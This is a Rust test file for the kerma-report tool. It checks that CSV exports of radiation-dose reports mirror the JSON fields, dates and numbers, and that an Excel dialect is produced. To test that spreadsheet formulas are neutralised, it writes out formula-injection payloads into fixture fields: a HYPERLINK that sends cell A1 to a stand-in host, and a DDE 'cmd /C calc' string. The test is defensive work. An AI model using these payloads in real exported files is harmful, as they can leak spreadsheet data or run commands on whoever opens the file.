//! The CSV files of kerma-report `--out`: each column holds the JSON field it is named after,
//! in the form a spreadsheet reads (ISO 8601 dates, rounded numbers, seconds, neutralised
//! formulas, `--excel`).

mod cli_support;
mod common;

use std::path::Path;

use cli_support::{TESTDATA, read_csv, run};
use common::corpus_dir;
use serde_json::Value;

/// Columns holding a DICOM date (DA), which the CSV files write in ISO 8601.
const DATE_COLUMNS: &[&str] = &[
    "study_date",
    "date",
    "window_first_date",
    "window_last_date",
];

/// A DA `YYYYMMDD` as `YYYY-MM-DD`.
fn iso_date(da: &str) -> String {
    if da.len() == 8 && da.bytes().all(|b| b.is_ascii_digit()) {
        format!("{}-{}-{}", &da[..4], &da[4..6], &da[6..])
    } else {
        da.to_owned()
    }
}

/// A DT `YYYYMMDDHHMMSS[.F][&ZZXX]` as `YYYY-MM-DDTHH:MM:SS[.F][&ZZ:XX]`.
fn iso_datetime(dt: &str) -> String {
    let (main, offset) = match dt.find(['+', '-']) {
        Some(i) => dt.split_at(i),
        None => (dt, ""),
    };
    let (digits, fraction) = main.split_once('.').unwrap_or((main, ""));
    assert_eq!(digits.len(), 14, "a full DT in the fixtures: {dt}");
    let d = digits;
    let mut s = format!(
        "{}-{}-{}T{}:{}:{}",
        &d[..4],
        &d[4..6],
        &d[6..8],
        &d[8..10],
        &d[10..12],
        &d[12..]
    );
    if !fraction.is_empty() {
        s = format!("{s}.{fraction}");
    }
    if !offset.is_empty() {
        s = format!("{s}{}:{}", &offset[..3], &offset[3..]);
    }
    s
}

/// Warnings as a CSV cell writes them: each once, in order of first appearance, a repeated
/// one with ` (×N)`, separated by `;`.
fn counted(warnings: &[Value]) -> String {
    let mut seen: Vec<(&str, usize)> = Vec::new();
    for w in warnings.iter().filter_map(Value::as_str) {
        match seen.iter_mut().find(|(x, _)| *x == w) {
            Some((_, n)) => *n += 1,
            None => seen.push((w, 1)),
        }
    }
    let cells: Vec<String> = seen
        .iter()
        .map(|(w, n)| {
            if *n > 1 {
                format!("{w} (×{n})")
            } else {
                (*w).to_owned()
            }
        })
        .collect();
    cells.join(";")
}

/// The JSON value of `column` in the form the CSV file writes it: dates in ISO 8601, warnings
/// counted once, text that a spreadsheet would run as a formula after a `'`.
fn in_csv_form(column: &str, v: &Value) -> Value {
    match v {
        Value::String(s) if DATE_COLUMNS.contains(&column) => Value::String(iso_date(s)),
        Value::String(s) if column == "started" => Value::String(iso_datetime(s)),
        Value::Array(items) if column == "warnings" => Value::String(counted(items)),
        Value::String(s) if s.starts_with(['=', '+', '-', '@', '\t', '\r']) => {
            Value::String(format!("'{s}"))
        }
        v => v.clone(),
    }
}

/// The significant digits of a decimal number as written.
fn significant_digits(cell: &str) -> usize {
    let digits: String = cell.chars().filter(char::is_ascii_digit).collect();
    digits.trim_start_matches('0').trim_end_matches('0').len()
}

/// Whether a CSV cell shows a JSON value: null as an empty cell, numbers rounded to 6
/// significant digits and written with at most those, a list as its items separated by `;`.
fn shows(cell: &str, v: &Value) -> bool {
    match v {
        Value::Null => cell.is_empty(),
        Value::String(s) => cell == s,
        Value::Bool(b) => cell == b.to_string(),
        Value::Number(n) => match (cell.parse::<f64>(), n.as_f64()) {
            (Ok(a), Some(b)) => {
                (a == b || (a - b).abs() <= 5e-6 * b.abs()) && significant_digits(cell) <= 6
            }
            _ => false,
        },
        Value::Array(items) if items.iter().all(Value::is_string) => {
            let texts: Vec<&str> = items.iter().filter_map(Value::as_str).collect();
            cell == texts.join(";")
        }
        Value::Array(items) if items.is_empty() => cell.is_empty(),
        Value::Array(items) => {
            let cells: Vec<&str> = cell.split(';').collect();
            cells.len() == items.len() && cells.iter().zip(items).all(|(c, v)| shows(c, v))
        }
        Value::Object(_) => false,
    }
}

/// A survey row as the CSV files write it: a value in minutes (`unit` `min`) in seconds.
fn in_seconds(
    row: &serde_json::Map<String, Value>,
    fields: &[&str],
) -> serde_json::Map<String, Value> {
    let mut row = row.clone();
    if row.get("unit").and_then(Value::as_str) == Some("min") {
        row.insert("unit".into(), "s".into());
        for f in fields {
            if let Some(v) = row.get(*f).and_then(Value::as_f64) {
                row.insert((*f).into(), (v * 60.0).into());
            }
        }
    }
    row
}

/// A JSON row with the fields of its `planes` list as lists (`planes` the plane names, the
/// others under `{prefix}{field}`) and the fields of its `image` object as `image_{field}`.
fn flatten(row: &Value, plane_prefix: &str) -> serde_json::Map<String, Value> {
    let mut flat = row.as_object().unwrap().clone();
    if let Some(Value::Array(planes)) = row.get("planes") {
        let mut lists = serde_json::Map::new();
        for p in planes {
            for (k, v) in p.as_object().unwrap() {
                let key = if k == "plane" {
                    "planes".to_owned()
                } else {
                    format!("{plane_prefix}{k}")
                };
                let list = lists.entry(key).or_insert_with(|| Value::Array(Vec::new()));
                list.as_array_mut().unwrap().push(v.clone());
            }
        }
        flat.extend(lists);
    }
    if let Some(Value::Object(image)) = row.get("image") {
        for (k, v) in image {
            flat.insert(format!("image_{k}"), v.clone());
        }
    }
    // The skin dose: `skin_{field}`, and `skin_{field}_{inner}` for its objects.
    if let Some(Value::Object(skin)) = row.get("skin") {
        for (k, v) in skin {
            match v {
                Value::Object(inner) => {
                    for (k2, v2) in inner {
                        flat.insert(format!("skin_{k}_{k2}"), v2.clone());
                    }
                }
                v => {
                    flat.insert(format!("skin_{k}"), v.clone());
                }
            }
        }
    }
    flat
}

/// Every cell of the CSV file `name` in `dir` shows the JSON field its column is named after,
/// in the JSON row of the same rank; every column has that field in some row. With
/// `same_fields`, the header is exactly the rows' fields.
fn check_csv_shows_json(
    dir: &Path,
    name: &str,
    rows: &[serde_json::Map<String, Value>],
    same_fields: bool,
) {
    let (header, records) = read_csv(&dir.join(name));
    assert!(!records.is_empty(), "{name}: no row to check");
    assert_eq!(records.len(), rows.len(), "{name}: one row per JSON row");
    for (col, column) in header.iter().enumerate() {
        // A skin dose's object (`location`, `phantom`) is null when there is no map: its
        // columns are then checked by tests/skin_corpus.rs on a mapped procedure.
        let skin_object = |r: &serde_json::Map<String, Value>| {
            column.strip_prefix("skin_").is_some_and(|rest| {
                ["location_", "phantom_"]
                    .iter()
                    .any(|o| rest.starts_with(o))
                    && r.get("skin").is_some_and(Value::is_object)
            })
        };
        assert!(
            rows.iter()
                .any(|r| r.contains_key(column) || skin_object(r)),
            "{name}: no JSON field for column {column:?}"
        );
        for (i, (rec, row)) in records.iter().zip(rows).enumerate() {
            assert_eq!(rec.len(), header.len(), "{name} row {i}: ragged");
            let want = in_csv_form(column, row.get(column).unwrap_or(&Value::Null));
            assert!(
                shows(&rec[col], &want),
                "{name} row {i}, column {column:?}: {:?} is not {want}",
                rec[col]
            );
        }
    }
    if same_fields {
        let mut columns = header.clone();
        columns.sort();
        for row in rows {
            let mut fields: Vec<String> = row.keys().cloned().collect();
            fields.sort();
            assert_eq!(columns, fields, "{name}: columns are the JSON fields");
        }
    }
}

#[test]
fn csv_columns_hold_the_json_fields_they_are_named_after() {
    let dir = tempfile::tempdir().unwrap();
    let out = run(&["--out", dir.path().to_str().unwrap(), TESTDATA]);
    assert_eq!(out.status.code(), Some(2));
    let text = std::fs::read_to_string(dir.path().join("report.json")).unwrap();
    let doc: Value = serde_json::from_str(&text).unwrap();
    let list = |v: &Value| v.as_array().unwrap().clone();

    // files.csv: the file's fields, one value per plane, the image header's dose, the event
    // count; `fate` is checked below.
    let files: Vec<_> = list(&doc["files"])
        .iter()
        .map(|f| {
            let mut flat = flatten(f, "");
            if let Some(events) = f["events"].as_array() {
                flat.insert("event_count".into(), events.len().into());
            }
            flat.insert("fate".into(), Value::Null);
            flat
        })
        .collect();
    let (header, records) = read_csv(&dir.path().join("files.csv"));
    let fate = header
        .iter()
        .position(|h| h == "fate")
        .expect("a fate column");
    let fates: Vec<String> = records.iter().map(|r| r[fate].clone()).collect();
    let without_fate: Vec<_> = files
        .iter()
        .zip(&fates)
        .map(|(f, fate)| {
            let mut f = f.clone();
            f.insert("fate".into(), Value::String(fate.clone()));
            f
        })
        .collect();
    check_csv_shows_json(dir.path(), "files.csv", &without_fate, false);
    for (f, fate) in files.iter().zip(&fates) {
        let expected = if f["outcome"] == "error" {
            "error"
        } else if !f["duplicate_of"].is_null() {
            "duplicate"
        } else if !f["superseded_by"].is_null() {
            "superseded"
        } else if !f["procedure"].is_null() {
            "in_procedure"
        } else {
            fate.as_str()
        };
        assert_eq!(fate, expected, "fate of {}", f["path"]);
    }
    for f in [
        "error",
        "duplicate",
        "superseded",
        "in_procedure",
        "no_dose",
    ] {
        assert!(fates.iter().any(|x| x == f), "testdata has a {f} file");
    }

    // procedures.csv: the procedure's fields, its planes', and its type.
    let types: Vec<Value> = list(&doc["procedure_types"]);
    let procedures: Vec<_> = list(&doc["procedures"])
        .iter()
        .map(|p| {
            let mut flat = flatten(p, "plane_");
            let t = types
                .iter()
                .find(|t| t["procedure_id"] == p["id"])
                .expect("every procedure has a type row");
            for k in ["procedure_code", "match_status"] {
                flat.insert(k.into(), t[k].clone());
            }
            flat
        })
        .collect();
    check_csv_shows_json(dir.path(), "procedures.csv", &procedures, false);

    // events.csv: the event's fields with its file's path and procedure.
    let mut events = Vec::new();
    for f in list(&doc["files"]) {
        for e in f["events"].as_array().into_iter().flatten() {
            let mut flat = e.as_object().unwrap().clone();
            flat.insert("path".into(), f["path"].clone());
            flat.insert("procedure".into(), f["procedure"].clone());
            if let Some(kvp) = flat.remove("kvp") {
                flat.insert("kvp_kv".into(), kvp);
            }
            events.push(flat);
        }
    }
    check_csv_shows_json(dir.path(), "events.csv", &events, true);

    // The survey's rows, field for field.
    let as_maps = |v: &Value| -> Vec<_> {
        list(v)
            .iter()
            .map(|r| r.as_object().unwrap().clone())
            .collect()
    };
    let drl: Vec<_> = as_maps(&doc["drl"])
        .iter()
        .map(|r| {
            let values = [
                "median",
                "mean",
                "q1",
                "q3",
                "min",
                "max",
                "drl_value",
                "guide_value",
            ];
            in_seconds(r, &values)
        })
        .collect();
    assert!(
        drl.iter().any(|r| r["unit"] == "s"),
        "testdata has fluoroscopy-time rows, in seconds in drl.csv"
    );
    check_csv_shows_json(dir.path(), "drl.csv", &drl, true);
    let alerts: Vec<_> = as_maps(&doc["alerts"]["procedures"])
        .iter()
        .map(|r| in_seconds(r, &["value", "level"]))
        .collect();
    check_csv_shows_json(dir.path(), "alerts.csv", &alerts, true);
    let cumulative: Vec<_> = as_maps(&doc["alerts"]["patient_cumulative"])
        .iter()
        .map(|r| in_seconds(r, &["total", "max_single"]))
        .collect();
    check_csv_shows_json(dir.path(), "cumulative.csv", &cumulative, true);
}

#[test]
fn csv_files_without_rows_keep_their_header() {
    let full = tempfile::tempdir().unwrap();
    run(&["--out", full.path().to_str().unwrap(), TESTDATA]);
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    std::fs::write(data.join("junk.dcm"), b"not a DICOM file at all").unwrap();
    let out_dir = dir.path().join("out");
    let out = run(&["--out", out_dir.to_str().unwrap(), data.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    for name in [
        "procedures.csv",
        "events.csv",
        "drl.csv",
        "alerts.csv",
        "cumulative.csv",
    ] {
        let (header, records) = read_csv(&out_dir.join(name));
        assert!(records.is_empty(), "{name}: no procedure, no row");
        let (full_header, full_records) = read_csv(&full.path().join(name));
        assert!(!full_records.is_empty(), "{name}: testdata gives rows");
        assert_eq!(header, full_header, "{name}: the header of the rows");
    }
}

#[path = "fixtures/mod.rs"]
mod fixtures;

/// Every CSV file of `--out` in `dir`, read with the separator of its dialect: name, header
/// and records. A file of `--excel` must start with a byte-order mark.
fn all_csvs(dir: &Path, excel: bool) -> Vec<(String, Vec<String>, Vec<Vec<String>>)> {
    let mut out = Vec::new();
    for name in [
        "files.csv",
        "procedures.csv",
        "events.csv",
        "drl.csv",
        "alerts.csv",
        "cumulative.csv",
    ] {
        let bytes = std::fs::read(dir.join(name)).unwrap();
        let text = match bytes.strip_prefix("\u{feff}".as_bytes()) {
            Some(rest) => {
                assert!(excel, "{name}: a byte-order mark without --excel");
                rest
            }
            None => {
                assert!(!excel, "{name}: no byte-order mark with --excel");
                &bytes[..]
            }
        };
        let mut r = csv::ReaderBuilder::new()
            .delimiter(if excel { b';' } else { b',' })
            .from_reader(text);
        let header: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
        let records = r
            .records()
            .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
            .collect();
        out.push((name.to_owned(), header, records));
    }
    out
}

/// Study Description, Patient ID, Accession Number, Station Name and the events' protocol
/// starting with `c`, in a file whose name starts with `c` too: every CSV cell of `--out`, with
/// or without `--excel`, that holds one of these texts starts with `'` instead.
fn formula_text_is_neutralised(c: char, n: u32) {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    std::fs::create_dir(&data).unwrap();
    let mut r = fixtures::single_plane_report(n);
    r.header.patient_id = format!("{c}1+1");
    r.header.study_description = format!("{c}HYPERLINK(\"http://example.org/\"&A1,\"x\")");
    r.header.accession = format!("{c}ACC");
    r.header.station = format!("{c}cmd|' /C calc'!A0");
    for e in &mut r.events {
        e.protocol = Some(format!("{c}SUM(A1:A9)"));
    }
    std::fs::write(data.join(format!("{c}report.dcm")), r.to_bytes()).unwrap();
    for excel in [false, true] {
        let out_dir = tmp.path().join(if excel { "excel" } else { "plain" });
        let mut args = vec!["--out", out_dir.to_str().unwrap(), data.to_str().unwrap()];
        if excel {
            args.insert(0, "--excel");
        }
        let out = run(&args);
        assert!(matches!(out.status.code(), Some(0 | 1)), "{out:?}");
        let mut neutralised = 0;
        for (name, _, records) in all_csvs(&out_dir, excel) {
            for cell in records.iter().flatten() {
                // A negative number (a table position) is a number, not a formula.
                let number = cell
                    .replace(',', ".")
                    .parse::<f64>()
                    .is_ok_and(f64::is_finite);
                assert!(
                    number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{name} (excel {excel}): cell {cell:?} starts a formula"
                );
                if cell.starts_with(&format!("'{c}")) {
                    neutralised += 1;
                }
            }
        }
        // DICOM header values lose a leading tab or carriage return when read; the SR text of
        // the protocol and the file name keep it
        let at_least = if c == '\t' || c == '\r' { 2 } else { 6 };
        assert!(
            neutralised >= at_least,
            "{c:?} (excel {excel}): {neutralised} neutralised cells, expected at least {at_least}"
        );
    }
}

#[test]
fn formula_text_starting_with_equals_is_neutralised() {
    formula_text_is_neutralised('=', 800);
}

#[test]
fn formula_text_starting_with_plus_is_neutralised() {
    formula_text_is_neutralised('+', 801);
}

#[test]
fn formula_text_starting_with_minus_is_neutralised() {
    formula_text_is_neutralised('-', 802);
}

#[test]
fn formula_text_starting_with_at_is_neutralised() {
    formula_text_is_neutralised('@', 803);
}

#[test]
fn formula_text_starting_with_tab_is_neutralised() {
    formula_text_is_neutralised('\t', 804);
}

#[test]
fn formula_text_starting_with_carriage_return_is_neutralised() {
    formula_text_is_neutralised('\r', 805);
}

#[test]
fn excel_csv_has_a_bom_semicolons_and_decimal_commas() {
    let tmp = tempfile::tempdir().unwrap();
    let (plain, excel) = (tmp.path().join("plain"), tmp.path().join("excel"));
    run(&["--out", plain.to_str().unwrap(), TESTDATA]);
    run(&["--excel", "--out", excel.to_str().unwrap(), TESTDATA]);
    let plain = all_csvs(&plain, false);
    let excel = all_csvs(&excel, true);
    let mut decimal_commas = 0;
    for ((name, ph, pr), (_, eh, er)) in plain.iter().zip(&excel) {
        assert_eq!(ph, eh, "{name}: the same columns");
        assert_eq!(pr.len(), er.len(), "{name}: the same rows");
        for (p_row, e_row) in pr.iter().zip(er) {
            for ((column, p), e) in ph.iter().zip(p_row).zip(e_row) {
                if p.parse::<f64>().is_ok() && p.contains('.') {
                    assert_eq!(*e, p.replace('.', ","), "{name} {column}: a decimal comma");
                    decimal_commas += 1;
                } else if p.split(';').all(|x| x.parse::<f64>().is_ok()) && p.contains('.') {
                    // one number per plane
                    assert_eq!(*e, p.replace('.', ","), "{name} {column}");
                } else {
                    assert_eq!(e, p, "{name} {column}: text as it is");
                }
            }
        }
    }
    assert!(
        decimal_commas > 100,
        "testdata has decimals: {decimal_commas}"
    );
}

/// Whether a column holds measured or computed numbers (its unit in its name, or a statistic).
fn numeric_column(name: &str) -> bool {
    ["_gy_cm2", "_mgy", "_s", "_kv", "_ma"]
        .iter()
        .any(|u| name.ends_with(u))
        || [
            "median",
            "mean",
            "q1",
            "q3",
            "min",
            "max",
            "drl_value",
            "median_to_drl",
            "guide_value",
            "median_to_guide",
            "value",
            "level",
            "total",
            "max_single",
            "pulses",
            "max_total_vs_event_sum",
        ]
        .contains(&name)
}

#[test]
fn corpus_csv_numbers_carry_their_digits_and_dates_are_iso() {
    let Some(corpus) = corpus_dir() else { return };
    let tmp = tempfile::tempdir().unwrap();
    run(&[
        "--out",
        tmp.path().to_str().unwrap(),
        corpus.to_str().unwrap(),
    ]);
    let doc: Value =
        serde_json::from_str(&std::fs::read_to_string(tmp.path().join("report.json")).unwrap())
            .unwrap();
    // the JSON document keeps the value as computed; the CSV file writes what it carries
    let kar = doc["procedures"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["patient_id"] == "PAT-0555")
        .expect("a procedure of PAT-0555");
    // (read as text: serde_json's default float parser may land one step off)
    let json_text = std::fs::read_to_string(tmp.path().join("report.json")).unwrap();
    assert!(json_text.contains("\"ka_r_total_mgy\": 14.059999999999999"));
    assert!((kar["ka_r_total_mgy"].as_f64().unwrap() - 14.06).abs() < 1e-12);
    let id = kar["id"].as_str().unwrap();
    let (header, records) = read_csv(&tmp.path().join("procedures.csv"));
    let col = |n: &str| header.iter().position(|h| h == n).unwrap();
    let row = records.iter().find(|r| r[col("id")] == id).unwrap();
    assert_eq!(row[col("ka_r_total_mgy")], "14.06");
    assert_eq!(row[col("study_date")], "2017-12-12");
    let iso_date = |s: &str| {
        s.len() == 10
            && s.char_indices().all(|(i, c)| {
                if i == 4 || i == 7 {
                    c == '-'
                } else {
                    c.is_ascii_digit()
                }
            })
    };
    for (name, header, records) in all_csvs(tmp.path(), false) {
        for (column, cells) in header
            .iter()
            .enumerate()
            .map(|(i, h)| (h, records.iter().map(move |r| &r[i])))
        {
            for cell in cells {
                if DATE_COLUMNS.contains(&column.as_str()) && !cell.is_empty() {
                    assert!(
                        iso_date(cell),
                        "{name} {column}: {cell:?} is not YYYY-MM-DD"
                    );
                }
                if column == "started" && !cell.is_empty() {
                    assert!(
                        iso_date(&cell[..10]) && cell.as_bytes().get(10) == Some(&b'T'),
                        "{name} {column}: {cell:?} is not an ISO 8601 date-time"
                    );
                }
                if numeric_column(column) && !cell.is_empty() {
                    // one number per plane in files.csv
                    for x in cell.split(';') {
                        assert!(
                            x.parse::<f64>().is_ok() && significant_digits(x) <= 6,
                            "{name} {column}: {cell:?}"
                        );
                    }
                }
            }
        }
    }
}
